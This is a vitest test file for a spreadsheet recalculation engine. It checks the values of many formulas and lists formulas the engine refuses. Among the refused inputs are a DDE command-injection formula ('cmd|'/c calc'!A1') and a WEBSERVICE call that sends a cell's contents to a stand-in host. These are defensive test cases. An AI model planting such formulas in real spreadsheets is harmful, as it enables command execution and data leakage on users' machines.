// Formulas over a few cells -> what the proof's own calculation comes to, and what it refuses.
import { describe, expect, it } from 'vitest';
import { FormulaFault } from '../../src/proof/xlsx/formula-value.ts';
import type { ReadCell, ReadSheet } from '../../src/proof/xlsx/read-sheet.ts';
import { recalculate } from '../../src/proof/xlsx/recalculate.ts';
import { Settings } from '../../src/proof/xlsx/settings.ts';

/** Cells of the sheet 표 by name: numbers, texts, formulas that begin with `=`. */
function results(cells: Readonly<Record<string, number | string>>) {
  const read = new Map(
    Object.entries(cells).map(([name, is]): [string, ReadCell] => {
      const formula = typeof is === 'string' && is.startsWith('=') ? is.slice(1) : undefined;
      const kind = typeof is === 'number' ? 'number' : 'text';
      return [name, { kind, value: String(is), formula, format: '', look: '', stretches: undefined }];
    }),
  );
  const sheet: ReadSheet = { name: '표', cells: read, settings: new Settings(), misplaced: [] };
  return recalculate(new Map([['표', sheet]])).get('표') ?? new Map();
}

const CELLS = { A1: '청년', B1: 10, A2: '여성', B2: 0.5, A3: '청년', B3: -3, C1: '종료', A4: '1-2*3', B4: 7 };

describe('a formula', () => {
  it.each([
    ['SUM(B1:B3,B9)', 7.5],
    ["SUM('표'!$B$1:$B$3)*2-1", 14],
    ['SUMIFS($B$1:$B$300,$A$1:$A$300,$A1)-SUMIFS($B$1:$B$300,$A$1:$A$300,$A1,$C$1:$C$300,"종료")', -3],
    ['SUMIFS(B1:B4,A1:A4,"?"&MID(SUBSTITUTE(A4,"*","?"),2,255))', 7],
    ['SUBTOTAL(109,$B$1:$B$4)', 14.5],
    ['COUNTA(A1:A9)-COUNT(A1:B9)-SUMPRODUCT((A1:A9="여성")*1)', -1],
    ['COUNTIF(A1:A9,"청년")+1', 3],
    ['IF(COUNT(A1:A3)<2,"",SUM(B1:B3))', ''],
    ['IF(B9<>0,1/B9,N(A1))', 0],
    ['IF(OR(A1="여성",AND(B1>=10,B2<1)),ABS(B3),0)', 3],
    ['ROUND(2.675*100,0)', 268],
    ['ROUND(-0.5,0)', -1],
    ['TRUNC(-1.9,0)+SIGN(B3)', -2],
    ['INT(-1.5)+MOD(-7,3)', 0],
    ['"글 "&(B2*2)&"칸"', '글 1칸'],
    ['(B1-B4)/B4*100', 300 / 7],
    ['-B1--B4', -3],
    ['B9', 0],
    ['ROWS($A$1:$A$5)', 5],
  ])('%s', (formula, comes) => {
    const result = results({ ...CELLS, F1: `=${formula}` }).get('F1');
    if (typeof comes === 'number') expect(result).toBeCloseTo(comes, 10);
    else expect(result).toBe(comes);
  });

  it('rests on others, however many', () => {
    const chain = Array.from(
      { length: 20_000 },
      (_, index) => [`A${index + 1}`, `=A${index + 2}+1`] as const,
    );
    expect(results({ ...Object.fromEntries(chain), A20001: 5 }).get('A1')).toBe(20_005);
  });

  it.each([
    'RAND()',
    'NOW()',
    'WEBSERVICE("http://a.example/"&A1)',
    "cmd|'/c calc'!A1",
    "'[1]표'!A1",
    'INDIRECT("B1")',
    '이름+1',
    'SUM(B1:B2',
    'SUM(B:B)',
    'B1%',
    'B1^2',
    '{1,2}',
    'A1+B1',
    'B1/B9',
    'F1+1',
    'SUBTOTAL(9,B1:B2)',
    '',
  ])('%s is refused', (formula) => {
    expect(results({ ...CELLS, F1: `=${formula}` }).get('F1')).toBeInstanceOf(FormulaFault);
  });
});
